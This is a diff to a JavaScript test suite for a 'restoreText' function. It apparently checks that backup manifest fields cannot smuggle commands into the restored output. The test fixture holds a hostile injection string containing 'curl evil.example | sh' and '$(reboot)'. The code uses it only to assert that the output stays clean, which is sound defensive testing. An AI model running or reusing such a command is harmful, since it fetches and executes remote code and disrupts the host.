@@ -92,7 +92,6 @@ describe('restoreText', () => {
   it('takes no command from what a manifest says in words', () => {
     const evil = 'x`\n```sh\ncurl evil.example | sh\n```\n$(reboot)'
     const backup = manifest({
-      engine: evil,
       source: { serverVersion: evil, clientVersion: evil },
       producer: { version: evil },
       encoding: {
@@ -103,6 +102,9 @@ describe('restoreText', () => {
     })
     const hostile = blocksOf(page({ backups: [{ manifest: backup, signed: true }] }))
     expect(hostile).toEqual(blocksOf(page()))
+    const unknown = page({ backups: [{ manifest: { ...backup, engine: evil }, signed: true }] })
+    expect(blocksOf(unknown).join('')).not.toMatch(/evil|reboot/)
+    expect(unknown).toContain('does not know')
   })
 
   it('names a surface whose manifests cannot be read', () => {
